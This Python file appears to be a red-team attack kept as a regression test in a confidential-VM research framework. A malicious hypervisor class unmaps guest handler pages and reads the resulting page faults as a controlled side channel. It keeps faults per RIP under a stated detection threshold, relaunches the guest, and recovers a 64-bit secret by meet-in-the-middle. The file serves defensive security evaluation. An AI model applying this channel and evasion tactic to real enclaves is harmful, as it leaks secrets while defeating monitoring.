"""Red team 1's attack on the shim level, as they wrote it (from /work/redteam/shim_relaunch.py,
2026-12-02; an outside team given only the docs and a victim we had not seen,
guests/victims/dispatch.c).  It got 64 of 64 bits at shim, undetected, on seeds 1-5 with
2-4 launches, before pinning (docs/policies.md); tests/attacks/test_att_redteam.py keeps it
as a regression.  Changed: this header, and the helpers are found beside this file instead
of in /work/redteam.  Victim-specific: it hard-codes dispatch's page addresses
(common.py), so it is not in the matrix.

Their description follows.
"""

# shim_relaunch: page-level controlled channel on the handler pages, spread over distinct
# RIPs and over several launches, finished by a meet-in-the-middle against the printed state.
#
# * Each non-xor call faults once at its handler's entry (RIP op_add / op_rot / op_mul, page
#   0x202/0x203/0x204): that names the symbol.  op_xor shares main's page and never faults.
# * After a handler fault the handler's page must be re-armed after it ran: either main's page
#   is unmapped (the return faults at 0x20505d) or .rodata is (the next call's table load
#   faults at 0x205056).  Both RIPs are used at most 6 times, each handler entry at most 6
#   times per launch: the TDX rule (> 6 at one RIP) never trips; the budget (64) is far.
# * Each launch continues the non-xor subsequence where the last one stopped: it "hops" over
#   the known prefix with a few faults (only the page of the next hop's handler unmapped).
# * The xors' positions are not observed: all handlers are bijections and the guest prints
#   its final state, so meet-in-the-middle over the interleavings (2 x 2^16) finds them.

import os
import sys
from collections import deque
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *  # noqa
from tvmm_tools.attacks.base import Attack, Outcome
from tvmm.host.hypervisor import HonestHypervisor
from tvmm.abi.types import ExitReason, Field

RIP_MAX = 6          # fault_same_rip: more than 6 at one RIP trips the rule
import os
MAX_LAUNCHES = int(os.environ.get("RT_LAUNCHES", "6"))


def hop_plan(N):
    """Fewest hops from the start to index len(N)-1 of N; each hop lands on the next
    occurrence of a handler different from the current one."""
    p = len(N)
    if p == 0:
        return []
    prev = {-1: None}
    q = deque([-1])
    while q:
        a = q.popleft()
        if a == p - 1:
            break
        for h in (ADD, ROT, MUL):
            if a >= 0 and N[a] == h:
                continue
            b = next((j for j in range(a + 1, p) if N[j] == h), None)
            if b is not None and b not in prev:
                prev[b] = a
                q.append(b)
    x = max(prev)            # the farthest reachable call (a run of one handler at the end
    path = []                # of the prefix cannot be hopped into: it is re-observed)
    while x != -1:
        path.append(x)
        x = prev[x]
    return path[::-1]


class ChannelHost(HonestHypervisor):
    def __init__(self, client, devices, known, hops):
        super().__init__(client, devices)
        self.known = list(known)
        self.new = []
        self.pos = (hops[-1] if hops else -1)  # index in known of the last call seen
        self.mismatch = 0
        self.hops = list(hops)   # indices into known still to land on
        self.E = {ADD: 0, ROT: 0, MUL: 0}
        self.M = self.C = 0
        self.mode = "hop" if self.hops else "observe"
        self.rearm = None        # "M" or "C" while waiting to re-arm the last handler
        self.last = None
        self.stopped = False
        self.log = []

    def start(self):
        c, vm = self.client, self.vm
        if self.mode == "hop":
            c.unmap(vm, PAGE_OF[self.known[self.hops[0]]])
        else:
            for h in (ADD, ROT, MUL):
                c.unmap(vm, PAGE_OF[h])

    def stop(self):
        for p in (0x202000, 0x203000, 0x204000, MAIN_PAGE, RODATA_PAGE):
            self.client.map(self.vm, p)
        self.mode, self.stopped = "done", True

    def on_exit(self, rec):
        if rec.reason != ExitReason.NPF:
            return super().on_exit(rec)
        c, vm = self.client, self.vm
        gpa = rec.get(Field.GPA)
        page = gpa & ~0xFFF if gpa is not None else rec.get(Field.GPA_PAGE) << 12
        self.log.append(page >> 12)
        c.map(vm, page)
        if page in SYM_OF_PAGE:
            h = SYM_OF_PAGE[page]
            self.E[h] += 1
            if self.mode == "hop":
                idx = self.hops.pop(0)
                assert self.known[idx] == h, "hop landed on an unexpected handler"
                if self.hops:
                    c.unmap(vm, PAGE_OF[self.known[self.hops[0]]])
                    return True
                self.mode = "observe"   # landed on the last known call
                for o in (ADD, ROT, MUL):
                    if o != h:
                        if self.E[o] >= RIP_MAX:
                            self.stop(); return True
                        c.unmap(vm, PAGE_OF[o])
            else:
                self.pos += 1
                if self.pos < len(self.known):
                    self.mismatch += self.known[self.pos] != h
                else:
                    self.new.append(h)
            self.last = h
            if self.E[h] >= RIP_MAX or max(self.E.values()) >= RIP_MAX:
                self.stop(); return True
            if self.M < RIP_MAX:
                self.rearm = "M"; c.unmap(vm, MAIN_PAGE)
            elif self.C < RIP_MAX:
                self.rearm = "C"; c.unmap(vm, RODATA_PAGE)
            else:
                self.stop()
            return True
        if page == MAIN_PAGE and self.rearm == "M":
            self.M += 1
        elif page == RODATA_PAGE and self.rearm == "C":
            self.C += 1
        if self.rearm is not None:
            self.rearm = None
            c.unmap(vm, PAGE_OF[self.last])
        return True

    @property
    def complete(self):
        # the guest ended while every handler page was armed: no non-xor call was missed
        return (not self.stopped and self.mode == "observe" and self.run_result is not None
                and self.run_result.how == "exit")


class ShimRelaunch(Attack):
    name = "shim-relaunch"; summary = "handler-page faults over distinct RIPs, relaunches, MITM"
    victims = ("dispatch",); kind = "confidentiality"

    def run(self, ctx):
        known, hosts, final, complete, notes = [], [], None, False, []
        for k in range(MAX_LAUNCHES):
            hops = hop_plan(known)
            h = ChannelHost(ctx.client, ctx.devices(), known, hops)
            ctx.launch(h)
            h.start()
            r = h.run(max_exits=2000)
            hosts.append(h)
            if final is None:
                final = parse_state(h.devices.console.text)
            known += h.new
            notes.append(f"L{k}: hops {len(hops)} +{len(h.new)} mm{h.mismatch} E{list(h.E.values())} M{h.M} C{h.C} {r.how}")
            if h.complete:
                complete = True
                break
        cands = mitm_interleave(known, final) if (complete and final is not None) else []
        if cands:
            guess = syms_to_secret(cands[0])
        else:  # partial: the known prefix, xors unplaced
            guess = syms_to_secret((known + [XOR] * 32)[:32])
        return Outcome(guess=guess, hosts=hosts,
                       candidates=[syms_to_secret(c) for c in cands] or None,
                       exits=sum(sum(x.exits.values()) for x in hosts),
                       notes={"detail": f"{len(hosts)} launches, {len(known)} non-xor, complete={complete}, "
                                        f"{len(cands)} candidates; " + "; ".join(notes)})
